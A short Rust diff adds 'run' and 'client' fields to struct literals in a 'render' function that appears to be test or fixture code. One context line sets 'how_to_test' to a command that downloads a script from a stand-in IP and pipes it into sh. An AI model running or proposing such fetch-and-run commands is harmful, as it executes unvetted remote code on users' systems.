@@ -424,6 +424,7 @@ fn render(input: &Input<'_>, cap: &HelloCapture) {
         after_handshake: Default::default(),
         icmp_probe: None,
         first_request: Default::default(),
+        run: Default::default(),
         seen_by: None,
         balancer: None,
     };
@@ -440,6 +441,7 @@ fn render(input: &Input<'_>, cap: &HelloCapture) {
             how_to_test: "curl -sS http://203.0.113.1:8080/check.sh | sh",
             via: None,
             judged: None,
+            client: None,
         },
         profile(),
     );
